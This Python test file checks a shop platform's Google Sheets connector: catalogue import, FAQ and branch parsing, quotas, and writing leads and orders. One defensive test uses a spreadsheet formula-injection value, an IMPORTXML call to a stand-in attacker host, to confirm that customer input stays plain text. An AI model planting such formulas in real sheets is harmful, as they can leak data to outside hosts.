"""A Google Sheet through gspread's own client: read in few calls and as people see it, published where agreed; leads and orders out."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from threading import Event

import pytest
from hypothesis import given
from hypothesis import strategies as some

from app.services.importing.source_import import SourceFailed, SourceImport
from app.services.orders.books import ShopBooks
from app.services.publishing.publisher import Publisher
from app.worker.by_clock import ByClock
from app.worker.registered import Registered
from app.worker.telling import Telling
from plugins.contracts import Happening
from plugins.kit.outward import Unavailable
from plugins.kit.outward.quotas import Quotas
from plugins.kit.sheets.cells import table_of
from plugins.kit.sheets.client import Tab, spreadsheet_id
from tests.connectors.fake_sheets import EMAIL, ID, FakeSheets
from tests.connectors.loopback import SHOP_PLUGINS, ConnectedStreet
from tests.pipeline.shops import GROCER, MONDAY
from tests.pipeline.test_ordering import CHECKOUT, TO_COLLECT

HOUSE = Path(__file__).parents[2]
PRODUCTS = [
    ["SKU", "Name", "Price", "Stock", "Category", "Colour", "Price"],
    ["OAT-1L", "Oat Milk", 2.49, 24, "Drinks", "", 9],
    ["TEA-1", "Green Tea", "3.20", 5, "Drinks", "green"],
    ["TEA-2", "Black Tea", 3.5, 7, "", "black"],
    ["", "", "", ""],
    ["BAD-1", "No Price"],
]
SPLIT = "9.00-12:30, 14:00 - 18:00"
DRINKS = [{"startRowIndex": 2, "endRowIndex": 4, "startColumnIndex": 4, "endColumnIndex": 5}]


@pytest.fixture
def sheets():
    fake = FakeSheets()
    fake.tabs, fake.merges = {"Products": [list(row) for row in PRODUCTS]}, {}
    yield fake
    fake.server.close()


@pytest.fixture
def make_street(sheets, tmp_path):
    made = []

    def make(**options):
        given = {"account": sheets.account, "spreadsheet": ID, "base_url": sheets.server.url, "catalog": {"tab": "Products"}}
        plugins = [*SHOP_PLUGINS, CHECKOUT, {"name": "sheets", "options": given | options}]
        made.append(ConnectedStreet(tmp_path, {"corner": GROCER | {"tenant": GROCER["tenant"] | {"plugins": plugins}}}, sheets.server.host))
        return made[-1]

    yield make
    for street in made:
        street.platform.close()


def pull(street, **how):
    root = street.platform.directory.root
    (source,) = street.platform.tenant("corner").stores.register_sources()
    report = SourceImport(root, Publisher(root, street.platform.build)).run("corner", source, **how)
    street.platform.directory.refresh("corner")
    return report


def draft(street, document):
    return json.loads((street.place / "business" / "corner" / "draft" / f"{document}.json").read_text())


def product(street, sku):
    return next(one for one in draft(street, "catalog")["products"] if one["sku"] == sku)


def test_a_catalogue_comes_into_the_draft_and_goes_live_on_consent(sheets, make_street):
    street = make_street()
    report = pull(street)
    (table,) = report.tables
    assert (table.report.added, table.report.changed, table.report.removed) == (2, 1, 0)
    assert [note.text for note in table.report.bad] == ["has no price."]
    assert [change.record for change in report.changes] == ["OAT-1L", "TEA-1", "TEA-2"]
    assert report.published is None
    assert "£1.99" in street.say("how much is oat milk").text
    assert pull(street, publish=True).held == "the draft held other changes before, so it is left for a person to publish"
    Publisher(street.platform.directory.root, street.platform.build).publish("corner")
    street.platform.directory.refresh("corner")
    assert "£2.49" in street.say("how much is oat milk", session="s-2").text


def test_what_is_pulled_goes_live_at_once_where_nothing_else_waits(sheets, make_street):
    street = make_street()
    report = pull(street, publish=True)
    assert report.published.version == 2
    assert report.sentence == "catalog: 2 added, 1 changed, 0 removed, 1 rows left out; version 2 is live."
    assert "£3.20" in street.say("how much is green tea", session="s-2").text
    assert pull(street, publish=True).published is None


def test_a_trial_writes_nothing(sheets, make_street):
    street = make_street()
    assert pull(street, trial=True).tables[0].report.added == 2
    assert "TEA-1" not in [one["sku"] for one in draft(street, "catalog")["products"]]


def test_three_calls_read_everything(sheets, make_street):
    sheets.tabs |= {"FAQ": [["Question", "Answer"], ["Do you gift wrap?", "Yes, for free."]]}
    pull(make_street(faq={"tab": "FAQ"}))
    assert [request.path.rpartition("/")[2] for request in sheets.server.requests] == ["token", ID, "values:batchGet", ID]


def test_merged_cells_double_headers_and_locale_decimals(sheets, make_street):
    sheets.merges = {"Products": DRINKS}
    street = make_street()
    pull(street)
    assert product(street, "TEA-2")["category"] == ["Drinks"]
    assert product(street, "OAT-1L")["price"] == 249
    assert product(street, "TEA-1")["price"] == 320
    assert product(street, "TEA-1")["attributes"] == {"Colour": "green"}


def test_columns_are_what_the_shop_says(sheets, make_street):
    sheets.tabs["Products"] = [["Art", "Bez", "EK", "VK"], ["X-1", "Seife", 1, "4,50"]]
    columns = {"Art": "sku", "Bez": "name", "VK": "price", "EK": "ignore"}
    street = make_street(catalog={"tab": "Products", "columns": columns, "replaces": True})
    report = pull(street)
    assert draft(street, "catalog")["products"] == [{"sku": "X-1", "name": "Seife", "price": 450}]
    assert report.tables[0].report.removed > 5


def test_questions_and_branches(sheets, make_street):
    sheets.tabs |= {
        "FAQ": [
            ["Question", "Answer", "Other wordings", "Tags"],
            ["Do you gift wrap?", "Yes, for free.", "gift wrapping; can you wrap it", "gifts"],
            ["", "An answer to nothing", "", ""],
        ],
        "Shops": [
            ["Name", "Town", "Postcode", "Lat", "Lng", "Phone", "Monday", "Tue", "Sunday"],
            ["Leafway Clifton Village", "Bristol", "BS8 4BX", "51,4545", -2.62, "0117 496 0101", "9-18", SPLIT, "closed"],
            ["Leafway Totnes", "Totnes", "TQ9 5RY", 50.43, -3.68, "", "9-17", "", ""],
            ["Leafway Nowhere", "", "", "north", "", "", "", "", ""],
        ],
    }
    street = make_street(faq={"tab": "FAQ"}, branches={"tab": "Shops"})
    report = pull(street)
    assert [[note.text for note in table.report.bad] for table in report.tables[1:]] == [
        ["has no question."], ['latitude: "north" is no number of degrees.'],
    ]  # fmt: skip
    wrap = next(entry for entry in draft(street, "faq")["entries"] if entry["question"] == "Do you gift wrap?")
    assert wrap == {
        "id": "do-you-gift-wrap", "question": "Do you gift wrap?", "answer": "Yes, for free.",
        "phrasings": ["gift wrapping", "can you wrap it"], "tags": ["gifts"],
    }  # fmt: skip
    clifton, totnes = (next(one for one in draft(street, "branches")["branches"] if town in one["name"]) for town in ("Clifton", "Totnes"))
    assert (clifton["id"], clifton["latitude"]) == ("clifton", 51.4545)
    assert {day: clifton["hours"][day] for day in ("monday", "tuesday", "sunday")} == {
        "monday": ["09:00-18:00"], "tuesday": ["09:00-12:30", "14:00-18:00"], "sunday": [],
    }  # fmt: skip
    assert (totnes["id"], totnes["hours"]) == ("leafway-totnes", {"monday": ["09:00-17:00"]})
    assert report.problems == ()


def test_a_draft_with_faults_is_not_published(sheets, make_street):
    street = make_street()
    street.write("corner", promotions={"promotions": [{"id": "x"}]})
    report = pull(street, publish=True)
    assert (report.published, report.held) == (None, "the draft has faults, so it was not published")
    assert report.problems


def test_a_sheet_that_nobody_shared_a_missing_tab_and_google_down_are_told(sheets, make_street):
    street = make_street()
    sheets.invited = False
    with pytest.raises(SourceFailed, match="Share it with that address") as told:
        pull(street)
    assert EMAIL in str(told.value)
    (connector,) = [one for one in street.platform.tenant("corner").background.connectors.values() if one.name == "sheets"]
    assert not connector.check().ok
    sheets.invited = True
    assert connector.check().detail == 'The spreadsheet "Our shop" can be read.'
    sheets.tabs["Goods"] = sheets.tabs.pop("Products")
    with pytest.raises(SourceFailed, match="has no tab 'Products'. Its tabs are: Goods"):
        pull(street)
    sheets.server.failing = [500] * 9
    with pytest.raises(SourceFailed, match="500"):
        pull(street)


def test_the_worker_reads_by_the_clock_and_publishes_what_it_may(sheets, make_street):
    street = make_street(every_minutes=15, publish=True)
    clock = ByClock(street.platform, Registered(street.platform.directory, street.platform.open), "worker-1")
    clock.work(Event())
    street.clock.pass_time(minutes=16)
    assert clock.work(Event())
    assert street.platform.directory.root.tenant("corner").live_version() == 2
    assert product(street, "TEA-1")["price"] == 320


def test_leads_and_orders_are_added_once_and_never_read_as_formulas(sheets, make_street):
    sheets.tabs |= {"Leads": [], "Orders": [["number", "at"]]}
    street = make_street(leads="Leads", orders="Orders")
    tell(street)
    for text in ("please call me back", "0117 496 0123", "Dave Hill", "yes"):
        street.say(text, session="lead")
    street.chat(*TO_COLLECT, "yes")
    for _ in range(3):
        street.clock.pass_time(minutes=1)
        tell(street)
    order = street.platform.storage.tenant("corner").orders.latest()[0]
    assert [row[0] for row in sheets.tabs["Orders"]] == ["number", order.number]
    assert sheets.tabs["Orders"][1][2:] == [
        "placed", "collection", "later", "Ann Hill", "+441174960123", "", "clifton", "", "", "2 x Oat Milk (OAT-1L)", "3.98", "3.98", "GBP",
    ]  # fmt: skip
    assert [row[3:5] for row in sheets.tabs["Leads"]] == [["name", "phone"], ["Dave Hill", "+441174960123"]]
    assert all(request.query["valueInputOption"] == "RAW" for request in sheets.server.requests if request.path.endswith(":append"))


def test_a_formula_that_a_customer_wrote_stays_a_text(sheets, make_street):
    sheets.tabs["Leads"] = []
    street = make_street(leads="Leads")
    evil = '=IMPORTXML("https://evil.example", "//a")'
    data = {"reference": "L-1", "kind": "callback", "name": evil, "phone": "+44", "email": "", "note": "@SUM(A1)"}
    books = ShopBooks(street.platform.tenant("corner"), street.platform.storage.tenant("corner"))
    street.platform.tenant("corner").background.subscriptions["sheets leads"].deliver(Happening("lead:L-1", "lead", MONDAY, data), books)
    assert sheets.tabs["Leads"][1] == ["L-1", "2026-01-05 11:00", "callback", evil, "+44", "", "@SUM(A1)"]


def test_an_order_told_again_after_a_crash_is_added_once(sheets, make_street):
    sheets.tabs["Orders"] = []
    street = make_street(orders="Orders")
    tell(street)
    street.chat(*TO_COLLECT, "yes")
    subscription = street.platform.tenant("corner").background.subscriptions["sheets orders"]
    database = street.platform.storage.tenant("corner")
    database.deliveries.plan("sheets orders", frozenset({"order"}), street.clock())
    (delivery,) = database.deliveries.due("sheets orders", street.clock())
    happening, books = database.deliveries.find_happening(delivery), ShopBooks(street.platform.tenant("corner"), database)
    for _ in range(3):
        subscription.deliver(happening, books)
    assert len(sheets.tabs["Orders"]) == 2


def tell(street):
    telling = Telling(street.platform, Registered(street.platform.directory, street.platform.open), "worker-1")
    telling.work(Event())


# cells


def test_dates_are_told_from_numbers_by_their_columns_format():
    tab = Tab("T", [["sku", "best before", "opens", "weight"], ["A", 46347, 0.375, 46347.0]], types=["", "DATE", "TIME", "NUMBER"])
    assert table_of(tab) == [["sku", "best before", "opens", "weight"], ["A", "2026-11-21", "09:00", 46347]]


CELLS = some.none() | some.text(max_size=4) | some.floats(allow_nan=False, allow_infinity=False)


@given(
    some.lists(some.lists(CELLS, max_size=5), max_size=6),
    some.lists(some.tuples(*[some.integers(0, 7)] * 4), max_size=3),
    some.lists(some.sampled_from(["", "DATE", "TIME", "DATE_TIME"]), max_size=7),
)
def test_property_a_table_has_rows_of_one_width_whatever_came(rows, merges, types):
    table = table_of(Tab("T", rows, merges, types))
    assert len(table) == len(rows)
    assert len({len(row) for row in table}) <= 1


def test_a_spreadsheet_is_named_by_its_address_or_its_id():
    assert spreadsheet_id("https://docs.google.com/spreadsheets/d/1AbC/edit#gid=0") == spreadsheet_id("1AbC") == "1AbC"


# the quota that all shops share


class Hours:
    def __init__(self):
        self.now, self.waited = 1000.0, 0.0

    def clock(self):
        return self.now

    def pause(self, seconds):
        self.now, self.waited = self.now + seconds, self.waited + seconds


def test_the_sixty_first_call_of_a_minute_waits_or_is_refused(tmp_path):
    hours = Hours()
    for _ in range(60):
        Quotas(tmp_path, hours.clock, hours.pause).take("google", 60, 60.0)
    with pytest.raises(Unavailable, match="for all shops together") as refused:
        Quotas(tmp_path, hours.clock, hours.pause).take("google", 60, 60.0)
    assert refused.value.retry_after == 60.0
    Quotas(tmp_path, hours.clock, hours.pause).take("google", 60, 60.0, patience=90)
    assert hours.waited == 60.0
    Quotas(tmp_path, hours.clock, hours.pause).take("another account", 60, 60.0)


def test_a_quota_is_kept_by_many_at_once(tmp_path):
    hours = Hours()

    def take(_):
        try:
            Quotas(tmp_path, hours.clock, hours.pause).take("google", 20, 60.0)
        except Unavailable:
            return 0
        return 1

    with ThreadPoolExecutor(8) as shops:
        assert sum(shops.map(take, range(60))) == 20


def test_a_clock_that_was_set_back_locks_nobody_out(tmp_path):
    hours = Hours()
    Quotas(tmp_path, hours.clock, hours.pause).take("nominatim", 1, 1.0)
    hours.now -= 500
    Quotas(tmp_path, hours.clock, hours.pause).take("nominatim", 1, 1.0)
    assert hours.waited == 0


def test_the_command_reads_publishes_and_tells_the_rows_left_out(sheets, make_street):
    street = make_street()
    environment = {name: value for name, value in os.environ.items() if not name.startswith("ASSISTANT_")}
    environment |= {
        "PYTHONPATH": str(HOUSE), "BUSINESS_ROOT": str(street.place / "business"), "INSTANCE_FOLDER": str(street.place / "instance"),
        "LOG_FOLDER": str(street.place / "logs"), "CONNECTOR_HOSTS": sheets.server.host, "PYTHONUTF8": "1",
    }  # fmt: skip

    def run(*arguments):
        command = [sys.executable, "-c", "from scripts.cli import main; main(prog_name='assistant')", "import", "source", *arguments]
        return subprocess.run(command, cwd=street.place, env=environment, capture_output=True, text=True, timeout=120, check=False)

    trial = run("corner", "--dry-run")
    assert (trial.returncode, "Nothing was written (--dry-run)." in trial.stdout) == (0, True), trial.stderr
    done = run("corner", "sheets", "--publish")
    assert done.stdout.splitlines()[-1] == "catalog: 2 added, 1 changed, 0 removed, 1 rows left out; version 2 is live."
    assert "line 6: left out: has no price." in done.stderr
    wrong = run("corner", "excel")
    assert (wrong.returncode, "There is no source 'excel'. There are: sheets." in wrong.stderr) == (1, True)
